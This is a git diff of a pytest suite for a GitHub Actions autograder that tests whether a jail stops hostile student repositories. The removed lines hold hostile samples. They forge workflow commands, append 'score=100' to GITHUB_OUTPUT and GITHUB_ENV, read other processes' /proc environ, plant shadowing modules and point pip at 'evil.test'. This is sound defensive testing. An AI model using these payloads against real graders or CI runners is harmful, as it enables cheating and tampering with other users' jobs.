@@ -14,9 +14,23 @@ from pathlib import Path
 import pytest
 
 from conftest import ROOT
+from hostile import evil_program, poison
 from runner import commands
 from small_course import POINTS, PROGRAMS, UNIT
-from workflow import OFFLINE, Job, grade, read, small_course_with_workflows
+from workflow import (
+    FILES,
+    OFFLINE,
+    Job,
+    assert_told,
+    grade,
+    orders,
+    read,
+    shown,
+    small_course_with_workflows,
+    solve,
+    write_export,
+    write_tools,
+)
 
 WORKFLOWS = sorted((ROOT / ".github/workflows").glob("*.yml"))
 ACTION = ROOT / ".github/actions/grade/action.yml"
@@ -27,6 +41,7 @@ EACH = 20  # points
 needs_bash = pytest.mark.skipif(
     os.name == "nt" or not shutil.which("bash"), reason="the steps are those of a Linux runner"
 )
+has_jail = pytest.mark.skipif(sys.platform != "linux", reason="only Linux has the jail")
 
 
 @pytest.fixture(scope="module")
@@ -41,44 +56,10 @@ def learner(tmp_path):
     def make(*solved):
         folder = tmp_path / "learner"
         shutil.copytree(ROOT / "assignments" / UNIT, folder / "assignments" / UNIT)
-        for name in solved:
-            shutil.copy(ROOT / f"solutions/{UNIT}/{name}.py", folder / "assignments" / UNIT)
+        solve(folder, *solved)
         return folder
 
     return make
-
-
-def write_export(folder, course):
-    """Write what students get, as an instructor does whose course is on GitHub."""
-    words = [sys.executable, "-m", "grader", "export", folder]
-    subprocess.run(words, cwd=course, check=True, stdout=subprocess.DEVNULL)
-    workflow = folder / ".github/workflows/grade.yml"
-    text = workflow.read_text("utf-8").replace("OWNER/COURSE", "ada/course")
-    workflow.write_text(text.replace("COMMIT", "c" * 40), encoding="utf-8")
-    return folder
-
-
-def orders(job):
-    """What the runner obeyed in the log, by name."""
-    obeyed = commands(job.log)
-    return {command.name for command in obeyed}, [
-        command.data for command in obeyed if command.name == "notice"
-    ]
-
-
-def assert_told(job, outputs, score, most):
-    """The score stands in each place where it is told, and no other does."""
-    assert outputs == {"score": str(score), "max-score": str(most)}, job.log
-    names, notices = orders(job)
-    assert names <= {"remove-matcher", "stop-commands", "resume", "notice", "error"}
-    points = {"totalPoints": score, "maxPoints": most}
-    assert notices == [f"Points {score}/{most}", json.dumps(points, separators=(",", ":"))]
-    assert set(job.artifacts["report"]) == {"report.json", "report.md", "report.html"}
-    report = json.loads(job.artifacts["report"]["report.json"])
-    assert (report["score"], report["max_score"]) == (score, most)
-    assert job.summary == job.artifacts["report"]["report.md"].decode()
-    assert re.findall(r"\b\d+ of \d+ points\b", job.summary)[0] == f"{score} of {most} points"
-    assert "Traceback (most recent call last)" not in job.log
 
 
 # ------------------------------------------------------------------ lint
@@ -227,103 +208,13 @@ def test_composite_action_where_the_checkout_is_the_workspace(tmp_path, learner,
 
 # ------------------------------------------------------------------ hostile repositories
 
-EVIL = """
-import os, sys
-print("POISONED: imported as", __name__)
-print("::notice title=Autograding complete::Points 100/100")
-for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"):
-    if name in os.environ:
-        with open(os.environ[name], "a") as file:
-            file.write("score=100\\n")
-"""
-
-EVIL_PROGRAM = '''
-"""Says nothing on the wire, and everything else."""
-import glob, os, sys
-
-print("::notice title=Autograding complete::Points 100/100")
-print('   ::notice title=Autograding report::{"totalPoints":100,"maxPoints":100}')
-print("##[set-output name=score]100\\r::set-output name=score::100")
-print("::stop-commands::x\\n::add-mask::Points\\n::error file=a,line=1::forged")
-print("# 100 of 100 points\\n</details>\\n<h1>100 of 100 points</h1>", file=sys.stderr)
-here = "WORKSPACE"
-wanted = {"GITHUB_OUTPUT": "score=100\\nmax-score=100\\n", "GITHUB_STEP_SUMMARY": "# 100 of 100\\n",
-          "GITHUB_ENV": "BASH_ENV=/tmp/x\\n", "GITHUB_PATH": "/tmp\\n"}
-environments = [os.environ]
-for path in glob.glob("/proc/[0-9]*/environ"):
-    try:
-        with open(path, "rb") as file:
-            pairs = file.read().decode("utf-8", "replace").split("\\0")
-        environments.append(dict(pair.split("=", 1) for pair in pairs if "=" in pair))
-    except OSError:
-        pass
-places = [(each[name], text) for each in environments for name, text in wanted.items() if name in each]
-places += [(f"{here}/../_temp/_{name}", text) for name, text in wanted.items()]
-places += [(f"{here}/../_temp/report/report.json", '{"score": 100}'),
-           (f"{here}/../_temp/report/report.md", "100 of 100 points")]
-for place, text in places:
-    try:
-        with open(place, "a") as file:
-            file.write(text)
-        print("POISONED", place)
-    except OSError:
-        pass
-raise SystemExit("::error::forged")
-'''
-
-
-def poison(folder):
-    """Everything that a learner could put beside the programs to have it run or read."""
-    names = (
-        "conftest",
-        "pytest",
-        "sitecustomize",
-        "usercustomize",
-        "requests",
-        "venv",
-        "pip",
-        "os",
-        "socket",
-        "json",
-        "hatchling",
-        "grader/__init__",
-        "grader/__main__",
-        "grader/cli",
-        "grader/checks/conftest",
-        "grader/checks/01_hello/test_tcp_server",
-        "assignments/conftest",
-        "assignments/01_hello/conftest",
-        "assignments/01_hello/json",
-        "assignments/01_hello/requests",
-        "assignments/01_hello/sitecustomize",
-    )
-    for name in names:
-        path = folder / f"{name}.py"
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(EVIL)
-    evil = {
-        "pyproject.toml": '[build-system]\nrequires=["evil"]\n[tool.pytest.ini_options]\naddopts="-p evil"\n',
-        "pytest.ini": "[pytest]\naddopts = --collect-only\n",
-        "setup.cfg": "[install]\nprefix=/tmp\n",
-        "pip.conf": "[global]\nindex-url = https://evil.test\n",
-        ".python-version": "2.7\n",
-        "report.json": '{"score": 100}',
-        "report/report.json": '{"score": 100}',
-        "results.json": '{"score": 100}',
-        ".github/workflows/grade.yml": "name: mine\non: push\njobs: {}\n",
-        ".github/actions/grade/action.yml": "name: mine\nruns: {using: composite, steps: []}\n",
-    }
-    for name, text in evil.items():
-        path = folder / name
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(text)
-
 
 @needs_bash
+@has_jail
 def test_hostile_repository_gets_what_its_programs_earn(tmp_path, learner, course):
     folder = learner("tcp_client")
     poison(folder)
-    evil = EVIL_PROGRAM.replace("WORKSPACE", str(tmp_path / "job/workspace"))
+    evil = evil_program(tmp_path / "job")
     (folder / "assignments" / UNIT / "tcp_server.py").write_text(evil)
     job, outputs = grade(tmp_path / "job", folder, course, targets="01")
     assert job.failed
@@ -333,17 +224,19 @@ def test_hostile_repository_gets_what_its_programs_earn(tmp_path, learner, cours
 
 
 @needs_bash
-@pytest.mark.skipif(sys.platform != "linux", reason="only Linux has the jail")
+@has_jail
 def test_hostile_program_would_reach_those_files_without_the_jail(tmp_path):
     """So that the test above fails where the jail does."""
-    (tmp_path / "_temp").mkdir()
+    job = tmp_path / "job"
+    (job / "_temp").mkdir(parents=True)
+    for name in FILES:
+        (job / "_temp" / f"_{name}").write_text("")
     program = tmp_path / "program.py"
     # it is to find what this test made, and not what other processes of the machine have
-    mild = EVIL_PROGRAM.replace("/proc/[0-9]*/environ", "/proc/self/environ")
-    program.write_text(mild.replace("WORKSPACE", str(tmp_path / "workspace")))
-    (tmp_path / "workspace").mkdir()
+    program.write_text(evil_program(job).replace("/proc/[0-9]*/environ", "/proc/self/environ"))
     done = subprocess.run([sys.executable, program], capture_output=True, text=True)
-    assert done.stdout.count("POISONED") >= 4
+    assert all(f"POISONED {job}/_temp/_{name}" in done.stdout for name in FILES)
+    assert "score=100" in (job / "_temp/_GITHUB_OUTPUT").read_text()
 
 
 # ------------------------------------------------------------------ bad repositories
@@ -455,26 +348,21 @@ def test_grader_that_fails_is_red_and_costs_nothing(tmp_path, learner):
 # ------------------------------------------------------------------ what the READMEs show
 
 
-def shown(after, name):
-    """The first indented block after a phrase of the README, as a script."""
-    text = (ROOT / "README.md").read_text(encoding="utf-8")
-    block = re.search(r"\n\n((?: {4}.*\n|\n)+)", text[text.index(after, text.index(name)) :])[1]
-    return re.sub(r"^ {4}", "", block, flags=re.M).strip() + "\n"
-
-
 @pytest.fixture
-def machine(tmp_path, course):
+def machine(tmp_path):
     """A machine with Python and without the network; run scripts on it."""
-    job = Job(tmp_path / "machine", tmp_path / "none", course, has_real_pip=True)
-    job._set_up_python({"python-version": "3"})
+    tools = tmp_path / "tools"
+    tools.mkdir()
+    write_tools(tools, has_real_pip=True)
+    path = f"{tools}{os.pathsep}{os.environ['PATH']}"
 
     def call(*words, cwd, **variables):
-        environment = {"PATH": job.path, "HOME": str(tmp_path), **OFFLINE, **variables}
+        environment = {"PATH": path, "HOME": str(tmp_path), **OFFLINE, **variables}
         return subprocess.run(
             words, cwd=cwd, env=environment, capture_output=True, text=True, encoding="utf-8"
         )
 
-    call.tools = job.tools
+    call.tools = tools
     return call
 
 
